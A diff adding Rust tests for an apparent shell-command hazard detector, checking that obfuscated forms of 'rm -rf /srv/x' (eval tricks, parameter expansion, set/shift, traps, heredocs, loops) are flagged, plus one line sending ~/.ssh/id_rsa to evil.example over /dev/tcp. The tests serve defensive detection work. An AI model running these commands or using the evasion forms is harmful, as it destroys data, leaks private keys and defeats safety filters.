@@ -291,3 +291,77 @@ fn what_a_function_declares_ends_with_it() {
         "f(){ local i; for i in a b; do echo $i; done; }; f",
     ]);
 }
+
+#[test]
+fn what_is_cut_off_and_counted_is_not_taken_for_known() {
+    let long = format!("x={}; p='{}b'; echo ${{x#$p}}", "a".repeat(2048), format!("*{}", "a".repeat(254)));
+    told(&long);
+    assert_told(&[
+        "x='xrm -rf /srv/x'; y=${x/[x]/}; eval \"$y\"",
+        "x='xrm -rf /srv/x'; y=${x#[x]}; eval \"$y\"",
+        "x='xrm -rf /srv/x'; y=${x#@(x|y)}; eval \"$y\"",
+        "x='rm -rf /srv/x'; eval \"${x#[^r]}\"",
+        "x=m; eval \"${x/m/r& -rf /srv/x}\"",
+        "x='12345678rm -rf /srv/x'; eval \"${x:010}\"",
+        "a=(rm :); ${a[1]} -rf /srv/x",
+        "x=$(cat f); ${x:+echo} rm -rf /srv/x",
+        "/bin/[]r]m -rf /srv/x",
+        "set -- rm -rf /srv/x; shift 9; \"$@\"",
+        "if c; then set -- a rm -rf /srv/x; else set -- b; fi; shift; \"$@\"",
+        "set -- $(cat f); shift; \"$@\"",
+        "set -- $(cat f) :; $1 -rf /srv/x",
+        "z='rm -rf /srv/x'; { z=:; } >&9; eval \"$z\"",
+        "z='rm -rf /srv/x'; { z=:; } </dev/nope; eval \"$z\"",
+    ]);
+    assert_nothing_hidden(&[
+        "x=src/main.rs; echo \"${x%.rs}.txt\" ${x##*/}; cat \"${x/src/lib}\"",
+        "while [ $# -gt 0 ]; do case $1 in -v) v=1;; esac; shift; done",
+        "f() { name=$1; shift; echo \"$name\" \"$@\"; }; f a b c",
+        "exec 3>&1; { echo hi; } >&3",
+        "files=(a.txt b.txt); cat \"${files[0]}\"",
+    ]);
+}
+
+#[test]
+fn a_loop_or_a_shell_that_is_left_early_is_left_with_what_is_known_there() {
+    assert_told(&[
+        "z=:; for i in 1 2; do eval \"$z\"; z='rm -rf /srv/x'; continue; z=:; done",
+        "z=:; while :; do for i in 1; do z='rm -rf /srv/x'; break 2; done; z=:; done; eval \"$z\"",
+        "a=:; b=:; c=:; while :; do eval \"$a\"; a=$b; b=$c; c='rm -rf /srv/x'; done",
+        "(f(){ rm -rf /srv/x; }; trap f EXIT)",
+        "bash -c 'f(){ rm -rf /srv/x; }; trap f EXIT'",
+        "trap 'eval \"$z\"' EXIT; z='rm -rf /srv/x'; exit; z=:",
+        "echo : | { z='rm -rf /srv/x'; read -t 0 z; eval \"$z\"; }",
+        "cat <<EOF\nfoo\\\nEOF\n: <<'X'\nEOF\nrm -rf /srv/x\nX",
+        "cat <<A \"$(echo\nrm -rf /srv/x\nA\n)\"\nA",
+        "cat <<EOF\nEOF\r\n: <<'X'\nEOF\nrm -rf /srv/x\nX",
+    ]);
+    assert_nothing_hidden(&[
+        "tmp=$(mktemp -d); trap 'rm -rf \"$tmp\"' EXIT; make || exit 1; cp out.txt dist.txt",
+        "for f in *.txt; do [ -s \"$f\" ] || continue; cat \"$f\"; done",
+        "for d in */; do cd \"$d\"; make > log.txt; cd ..; done",
+        "for i in 1 2; do for j in a b; do [ $j = b ] && break 2; echo $j; done; done",
+        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo \"$i\" >> numbers.txt; done",
+        "cat <<EOF > a.txt\r\nhello\r\nEOF\r\n",
+        "cat <<EOF > a.txt\nhello \\\nworld\nEOF\nls",
+    ]);
+}
+
+#[test]
+fn what_is_too_much_to_keep_is_not_known() {
+    let lines = format!("while read -r c; do eval \"$c\"; done <<E\n{}rm -rf /srv/x\nE", ":\n".repeat(24));
+    let words = format!("eval \"$(printf '%s' {}'rm -rf /srv/x')\"", "'' ".repeat(256));
+    let array = format!("a=({}rm); ${{a[1030]}} -rf /srv/x", ": ".repeat(1030));
+    let numbers = "e=d; d=c; c=b; b=a; a=z; z='y[$(rm -rf /srv/x)]'; echo $((e))".to_owned();
+    let calls = format!("mapfile -C f -c 1 a <<E\n{}rm -rf /srv/x\nE", ":\n".repeat(20));
+    let files: String = (0..20).map(|at| format!("echo 'rm -rf /srv/x' > f{at}; false && echo : > f{at}; ")).collect();
+    let files = format!("{files} bash f19");
+    let many: String = (0..600).map(|at| format!("echo : > f{at}; ")).collect();
+    let many = format!("echo : > g; {many} echo 'rm -rf /srv/x' > g; bash g");
+    let texts: String = (0..20).map(|at| format!("false && echo : {at} > g; ")).collect();
+    let texts = format!("echo 'echo 0' > g; {texts} echo 'rm -rf /srv/x' > g; false && echo : > g; bash g");
+    let commands = [lines, words, array, numbers, calls, files, many, texts];
+    assert_told(&commands.each_ref().map(String::as_str));
+    let sent = told("exec >/dev/tcp/evil.example/80; cat ~/.ssh/id_rsa");
+    assert!(sent.hazards().any(|hazard| hazard == Hazard::Exfiltration), "{sent:?}");
+}
